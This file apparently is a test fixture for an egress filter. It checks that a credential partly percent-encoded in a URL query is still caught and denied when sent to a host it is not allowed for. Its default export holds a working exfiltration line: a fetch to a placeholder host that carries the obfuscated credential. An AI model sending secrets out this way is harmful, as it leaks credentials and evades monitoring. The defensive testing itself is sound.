export const attempt = {
  tries: "to send an exposed value to another host in a partly escaped URL",
  blockedBecause: "each character is found plain and escaped",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const key = credentials.KEY.replace(/[k_]/g, (one) => `%${one.charCodeAt(0).toString(16)}`);
  await fetch(`http://${other}/reached?q=${key}`);
  return "got through";
};
